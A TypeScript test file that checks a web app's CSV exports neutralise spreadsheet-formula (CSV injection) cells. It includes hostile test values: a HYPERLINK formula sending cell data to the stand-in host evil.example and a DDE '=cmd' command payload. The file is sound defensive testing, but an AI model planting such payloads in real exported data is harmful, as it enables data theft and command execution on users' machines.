/**
 * No CSV the product writes can start a spreadsheet formula (OWASP "CSV Injection"): the TypeScript
 * rule and povmap.csv_cell agree on one table of cases, and the household export (PII and masked)
 * and the import rejects report neutralise hostile cells end to end.
 */
import type { FastifyInstance } from 'fastify';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvLine, neutraliseCell } from '../../server/csv/cell.js';
import { createJob, REJECT_HEADER } from '../../server/imports/jobs.js';
import { CSV_CELL_CASES } from '../helpers/csv-cells.js';
import { deleteUsers, testApp, userWithToken } from '../helpers/api.js';

const PREFIX = 'csvinjection';
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
const FORMULA_START = /^[=+\-@\t\r]/;
let app: FastifyInstance;
let house: { house_code: string; village_code: string; head_name: string; national_id: string };

beforeAll(async () => {
  app = await testApp();
  await deleteUsers(app, PREFIX);
  house = await app.db('household').where({ survey_year: 2023 }).orderBy('house_code').first('house_code', 'village_code', 'head_name', 'national_id');
  await app.db('household').where({ survey_year: 2023, house_code: house.house_code }).update({ head_name: HOSTILE_NAME });
});
afterAll(async () => {
  await app.db('household').where({ survey_year: 2023, house_code: house.house_code }).update({ head_name: house.head_name });
  await deleteUsers(app, PREFIX);
  await app.close();
});

/** Every field of a CSV body (BOM and quoting undone), by row. */
function rowsOf(payload: Buffer): string[][] {
  return parse(payload, { bom: true, relax_column_count: false }) as string[][];
}

describe('the neutralising rule', () => {
  it('TypeScript: every case of the shared table', () => {
    for (const [input, expected] of CSV_CELL_CASES) expect(neutraliseCell(input), JSON.stringify(input)).toBe(expected);
  });

  it('SQL (povmap.csv_cell): every case of the same table, and NULL stays NULL', async () => {
    const inputs = CSV_CELL_CASES.map(([input]) => input);
    const { rows } = await app.db.raw('select povmap.csv_cell(v) as cell, n from unnest(?::text[]) with ordinality as t(v, n) order by n', [inputs]);
    expect(rows.map((r: { cell: string }) => r.cell)).toEqual(CSV_CELL_CASES.map(([, expected]) => expected));
    const { rows: [nul] } = await app.db.raw('select povmap.csv_cell(null) as cell');
    expect(nul.cell).toBeNull();
  });

  it('csvLine quotes what needs it after neutralising, and reads back as the neutralised cells', () => {
    const line = csvLine([HOSTILE_NAME, '-12.5', 'a,b', null, 3]);
    expect(rowsOf(Buffer.from(line))).toEqual([[`'${HOSTILE_NAME}`, '-12.5', 'a,b', '', '3']]);
  });
});

describe('/api/households.csv', () => {
  it('with the PII grant: the hostile name comes out quoted as text, numbers stay numbers', async () => {
    const { headers } = await userWithToken(app, PREFIX, 'analyst', ['TH'], true);
    const r = await app.inject({ method: 'GET', url: `/api/households.csv?village=${house.village_code}`, headers });
    expect(r.statusCode).toBe(200);
    const [header, ...rows] = rowsOf(r.rawPayload);
    expect(header[1]).toBe('head_name');
    const row = rows.find((x) => x[0] === house.house_code)!;
    expect(row[1]).toBe(`'${HOSTILE_NAME}`);
    expect(r.body).not.toMatch(/(^|,|\n)"?=HYPERLINK/);
    for (const x of rows) for (const cell of x) if (FORMULA_START.test(cell)) expect(cell, 'only plain negative numbers may start with -').toMatch(/^-[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$/);
    // Figures are unchanged: lon/lat, counts and flags read as numbers.
    const lon = Number(row[header.indexOf('lon')]);
    expect(Number.isFinite(lon)).toBe(true);
    expect(row[header.indexOf('members')]).toMatch(/^[0-9]+$/);
  });

  it('masked (no PII grant) and with Thai headers: no cell starts a formula', async () => {
    const { headers } = await userWithToken(app, PREFIX, 'analyst', ['TH'], false);
    const r = await app.inject({ method: 'GET', url: `/api/households.csv?village=${house.village_code}&headers=th`, headers });
    expect(r.statusCode).toBe(200);
    const [, ...rows] = rowsOf(r.rawPayload);
    const row = rows.find((x) => x[0] === house.house_code)!;
    // Without the PII grant a name is masked whole (issue 15), so nothing of the hostile name is left.
    expect(row[1]).toBe('•••');
    for (const x of rows) for (const cell of x) if (FORMULA_START.test(cell)) expect(cell).toMatch(/^-[0-9]/);
  });
});

describe('/api/imports/:id/rejects.csv', () => {
  it('repeats hostile raw cells and columns neutralised', async () => {
    const { headers } = await userWithToken(app, PREFIX, 'admin');
    const id = await createJob(app.db, 'households', 'hostile.csv', null);
    try {
      await app.db('import_reject').insert([
        { job_id: id, line: 2, column_name: 'head_name', reason: 'a reason', raw: '=cmd|\' /C calc\'!A0' },
        { job_id: id, line: 3, column_name: null, reason: '+1 too many fields', raw: '@SUM(A1:A9),x' },
        { job_id: id, line: 4, column_name: 'lon', reason: 'out of range', raw: '-12.5' },
        { job_id: id, line: 5, column_name: 'village_code', reason: 'tab', raw: '\t=1' },
      ]);
      const r = await app.inject({ method: 'GET', url: `/api/imports/${id}/rejects.csv`, headers });
      expect(r.statusCode).toBe(200);
      const [header, ...rows] = rowsOf(r.rawPayload);
      expect(header).toEqual(REJECT_HEADER);
      expect(rows).toEqual([
        ['2', 'head_name', 'a reason', `'=cmd|' /C calc'!A0`],
        ['3', '', `'+1 too many fields`, `'@SUM(A1:A9),x`],
        ['4', 'lon', 'out of range', '-12.5'],
        ['5', 'village_code', 'tab', `'\t=1`],
      ]);
    } finally {
      await app.db('import_job').where({ id }).delete();
    }
  });
});
